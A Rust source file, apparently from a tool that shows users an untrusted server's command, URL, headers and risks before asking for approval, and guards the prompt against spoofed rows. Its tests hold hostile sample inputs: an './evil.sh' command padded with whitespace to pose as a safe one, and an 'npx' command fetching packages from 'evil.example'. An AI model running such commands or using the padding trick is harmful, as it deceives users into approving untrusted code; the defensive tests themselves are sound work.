//! The review of a server before it is approved: what it would run, its risks, and the question.
//!
//! The texts come from a file, a registry or a link that is not trusted. No row begins like a row of ours, whatever the
//! width of the terminal is, and the question repeats what runs.

use std::io::{IsTerminal as _, Write as _};

use wharf::config::{Approval, EntryChange};

use super::input::drop_typed_input;
use super::message::{caution, heading, line, stderr_width};
use super::shortened::{Line, ends, ends_beyond, shortened};
use super::text::{counted, name, with_visible_blanks};
use super::wrap::{columns, marked, middle_cut};
use crate::error::{UsageError, usage_error};

/// The width of a terminal that does not report its own.
const DEFAULT_WIDTH: usize = 80;
/// What begins the first row of a value.
const INDENT: &str = "  ";
/// What runs and what is connected to is shown whole up to this length: a dangerous argument may be in its middle.
const MAX_TARGET_CHARS: usize = 800;
/// Of more risks, the others are counted.
const MAX_CAUTIONS: usize = 16;
/// A longer path of a changed value is shortened.
const MAX_KEY_COLUMNS: usize = 60;

/// How much of long values is shown.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Detail {
    /// Head and tail. A question follows that offers the whole.
    Short,
    Whole,
}

/// One value to review.
pub(crate) struct Reviewed {
    /// What the server does with it.
    key: String,
    value: String,
    /// Up to how many characters it is shown whole, if not the usual number.
    max_chars: Option<usize>,
}

impl Reviewed {
    /// A value that strangers may have written, with a key of ours.
    pub(crate) fn new(key: &str, value: &str) -> Self {
        Self { key: key.to_owned(), value: value.to_owned(), max_chars: None }
    }

    fn target(key: &str, value: &str) -> Self {
        Self { max_chars: Some(MAX_TARGET_CHARS), ..Self::new(key, value) }
    }
}

/// Prints values on their own, before a question about them.
pub(crate) fn show_values(values: &[Reviewed]) {
    for row in rows(values, Detail::Short, stderr_width()) {
        line(&row);
    }
}

/// Prints what the user must review.
pub(crate) fn show(approval: &Approval, detail: Detail) {
    show_resolved(approval, None, detail);
}

/// Like [`show`], with the command line in which variables are replaced.
pub(crate) fn show_resolved(approval: &Approval, command_line: Option<&str>, detail: Detail) {
    let width = stderr_width();
    heading(&format!("{} would", approval.name));
    for row in rows(&reviewed(approval, command_line), detail, width) {
        line(&row);
    }
    for danger in approval.dangers.iter().take(MAX_CAUTIONS) {
        caution(&format!("it {danger}"));
    }
    let more = approval.dangers.len().saturating_sub(MAX_CAUTIONS);
    if more > 0 {
        caution(&format!("it has {}", counted(more, "more risk")));
    }
    if !approval.changes.is_empty() {
        heading("changes since you approved it");
        for row in rows(&changes(approval), detail, width) {
            line(&row);
        }
    }
}

/// Returns everything to review, in the order in which it is shown.
fn reviewed(approval: &Approval, resolved: Option<&str>) -> Vec<Reviewed> {
    let mut found: Vec<Reviewed> = Vec::new();
    found.extend(approval.command_line.iter().map(|command| Reviewed::target("run", command)));
    found.extend(resolved.map(|command| Reviewed::target("that is", command)));
    found.extend(approval.url.iter().map(|url| Reviewed::target("connect", url)));
    found.extend(approval.cwd.iter().map(|cwd| Reviewed::new("in", cwd)));
    found.extend(approval.headers_helper.iter().map(|helper| Reviewed::target("also run", helper)));
    let variables = approval.env.iter().map(|(variable, value)| format!("{variable}={value}"));
    found.extend(variables.map(|variable| Reviewed::new("with", &variable)));
    let headers = approval.headers.iter().map(|(header, value)| format!("{header}: {value}"));
    found.extend(headers.map(|header| Reviewed::new("sending", &header)));
    let more = approval.more.iter().map(|(path, value)| format!("{path} = {value}"));
    found.extend(more.map(|more| Reviewed::new("and", &more)));
    if !approval.reads.is_empty() {
        found.push(Reviewed::new("reading", &format!("your {}", approval.reads.join(", "))));
    }
    found
}

fn changes(approval: &Approval) -> Vec<Reviewed> {
    let or_none = |value: &Option<String>| value.clone().unwrap_or_else(|| "(none)".to_owned());
    let change = |change: &EntryChange| {
        Reviewed::new(&change.what, &format!("{} → {}", or_none(&change.approved), or_none(&change.now)))
    };
    approval.changes.iter().map(change).collect()
}

impl Line for Reviewed {
    fn whole(&self) -> String {
        self.line(&in_one_line(&self.value))
    }

    fn short(&self) -> (String, bool) {
        let short = match self.max_chars {
            Some(max_chars) => ends_beyond(max_chars, &self.value, in_one_line),
            None => ends(&self.value, in_one_line),
        };
        match short {
            Some(short) => (self.line(&short), true),
            None => (self.whole(), false),
        }
    }
}

impl Reviewed {
    fn line(&self, value: &str) -> String {
        format!("{:<9} {value}", middle_cut(&in_one_line(&self.key), MAX_KEY_COLUMNS))
    }
}

fn in_one_line(text: &str) -> String {
    with_visible_blanks(&name(text))
}

/// Returns values as rows of the terminal. A row that continues a value begins with a mark, under the values.
fn rows(values: &[Reviewed], detail: Detail, width: Option<usize>) -> Vec<String> {
    let lines = match detail {
        Detail::Short => shortened(values).lines,
        Detail::Whole => values.iter().map(Line::whole).collect(),
    };
    let line_rows = |line: String| {
        let mut rows = marked(&line, columns(INDENT), width);
        rows[0].insert_str(0, INDENT);
        rows
    };
    lines.into_iter().flat_map(line_rows).collect()
}

/// Returns what runs and what is connected to, a row each: whatever was scrolled away, the answer is about this.
fn summary(approval: &Approval, width: usize) -> Vec<String> {
    let parts = [
        ("runs", &approval.command_line),
        ("connects to", &approval.url),
        ("runs for headers", &approval.headers_helper),
    ];
    let row = |(verb, value): (&str, &Option<String>)| {
        let start = format!("{} {verb} ", middle_cut(approval.name.as_str(), width / 3));
        let value = in_one_line(value.as_ref()?);
        // One column less than the terminal has, so that no terminal breaks the row.
        let room = width.saturating_sub(columns(&start) + 1);
        if columns(&value) <= room {
            return Some(format!("{start}{value}"));
        }
        let length = format!("({} characters) ", value.chars().count());
        Some(format!("{start}{length}{}", middle_cut(&value, room.saturating_sub(columns(&length)))))
    };
    parts.into_iter().filter_map(row).collect()
}

/// What the user decides about a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Decision {
    Yes,
    No,
    /// Yes, and so for all that follow.
    All,
    /// No, and no further questions.
    Quit,
}

/// Whether more servers follow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Position {
    Last,
    MoreFollow,
}

/// Why the user is asked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Purpose {
    Approve,
    Add,
}

/// Asks the user whether to add a server, which needs a terminal. `without_terminal` is the hint where none exists.
pub(crate) fn ask_to_add(approval: &Approval, without_terminal: &str) -> Result<bool, UsageError> {
    Ok(decide(approval, Purpose::Add, without_terminal, Position::Last)? == Decision::Yes)
}

/// Asks the user about one server, which needs a terminal. `without_terminal` is the hint where none exists.
pub(crate) fn ask(approval: &Approval, without_terminal: &str) -> Result<bool, UsageError> {
    Ok(ask_about(approval, without_terminal, Position::Last)? == Decision::Yes)
}

/// Like [`ask`], for one of several servers: if more follow, one answer can decide about all of them.
pub(crate) fn ask_about(
    approval: &Approval,
    without_terminal: &str,
    position: Position,
) -> Result<Decision, UsageError> {
    decide(approval, Purpose::Approve, without_terminal, position)
}

fn decide(
    approval: &Approval,
    purpose: Purpose,
    without_terminal: &str,
    position: Position,
) -> Result<Decision, UsageError> {
    let stdin = std::io::stdin();
    if !stdin.is_terminal() || !std::io::stderr().is_terminal() {
        let message = match purpose {
            Purpose::Approve => format!("cannot ask for approval of `{}` without a terminal", approval.name),
            Purpose::Add => format!("cannot ask whether to add `{}` without a terminal", approval.name),
        };
        return Err(usage_error(message, Some(without_terminal)));
    }
    let verb = match purpose {
        Purpose::Approve => "Approve?",
        Purpose::Add => "Add it?",
    };
    let mut is_cut = shortened(&reviewed(approval, None)).is_cut || shortened(&changes(approval)).is_cut;
    loop {
        drop_typed_input();
        for row in summary(approval, stderr_width().unwrap_or(DEFAULT_WIDTH)) {
            line(&row);
        }
        let choices = match (position, is_cut) {
            (Position::Last, false) => "[y/N]",
            (Position::Last, true) => "[y/N, s shows everything]",
            (Position::MoreFollow, false) => "[y]es, [N]o, [a]ll, [q]uit:",
            (Position::MoreFollow, true) => "[y]es, [N]o, [a]ll, [q]uit, [s]how everything:",
        };
        let mut stderr = anstream::stderr();
        let _ = write!(stderr, "{verb} {choices} ").and_then(|()| stderr.flush());
        let mut answer = String::new();
        let read = stdin.read_line(&mut answer);
        read.map_err(|error| usage_error(format!("cannot read stdin: {error}"), None))?;
        match answer.trim().to_lowercase().as_str() {
            "y" | "yes" => return Ok(Decision::Yes),
            "a" | "all" if position == Position::MoreFollow => return Ok(Decision::All),
            "q" | "quit" if position == Position::MoreFollow => return Ok(Decision::Quit),
            "s" | "show" if is_cut => {
                is_cut = false;
                show(approval, Detail::Whole);
            }
            _ => return Ok(Decision::No),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Returns what a terminal of this width shows: it breaks rows that do not fit.
    fn screen(rows: &[String], width: usize) -> Vec<String> {
        let mut screen = Vec::new();
        for row in rows {
            let chars: Vec<char> = row.chars().collect();
            screen.extend(chars.chunks(width).map(|row| row.iter().collect::<String>()));
        }
        screen
    }

    #[test]
    fn a_value_cannot_look_like_another_one() {
        let forged = format!(
            "./evil.sh '{}{:<80}{:<79}'",
            " ".repeat(2_467),
            "w would",
            "  run       python3 /usr/lib/safe_server.py"
        );
        for detail in [Detail::Short, Detail::Whole] {
            let rows = rows(&[Reviewed::target("run", &forged)], detail, Some(80));
            assert!(rows[0].starts_with("  run       ") && rows[0].contains("./evil.sh"), "{rows:#?}");
            assert!(rows[1..].iter().all(|row| row.starts_with("          │ ") && columns(row) <= 80), "{rows:#?}");
            assert!(rows.concat().contains(" spaces⟩") && rows.len() < 6, "{rows:#?}");
        }
        let rows = rows(&[Reviewed::target("run", &"x".repeat(1_000))], Detail::Short, Some(80));
        assert!(rows.concat().contains("(1000 characters) xxx") && rows.len() < 6, "{rows:#?}");
    }

    #[test]
    fn no_text_forges_a_row_at_any_width() {
        let paddings =
            [" ", "\u{a0}", "\u{3000}", "\u{2800}", "─", "│", "·", "x", "\n", "\r\n", "\t", "\u{2028}", "   "];
        for width in 4..=130_usize {
            for padding in paddings {
                for pad in [width.saturating_sub(12), width.saturating_sub(3), width - 2, width, 2 * width - 5] {
                    let padded = format!("1.0{}  run       npx safe", padding.repeat(pad));
                    let values = [Reviewed::new("version", &padded), Reviewed::target("run", &padded)];
                    let rows = rows(&values, Detail::Whole, Some(width));
                    let firsts = rows.iter().filter(|row| !row.trim_start().starts_with('│')).count();
                    assert_eq!(firsts, 2, "{width} {padding:?}: {rows:#?}");
                    let shown = screen(&rows, width);
                    assert!(shown.len() == rows.len() || width < 8, "the terminal breaks a row at {width}: {rows:#?}");
                }
            }
        }
    }

    #[test]
    fn a_command_of_usual_length_is_shown_whole() {
        let long = format!("npx -y {} --registry=https://evil.example {} pkg", "a".repeat(300), "b".repeat(300));
        let rows = rows(&[Reviewed::target("run", &long)], Detail::Short, None);
        assert_eq!(rows, [format!("  run       {long}")]);
    }

    #[test]
    fn rows_in_a_pipe_are_not_broken() {
        let long = "x".repeat(1_000);
        assert_eq!(rows(&[Reviewed::new("run", &long)], Detail::Whole, None), [format!("  run       {long}")]);
    }
}
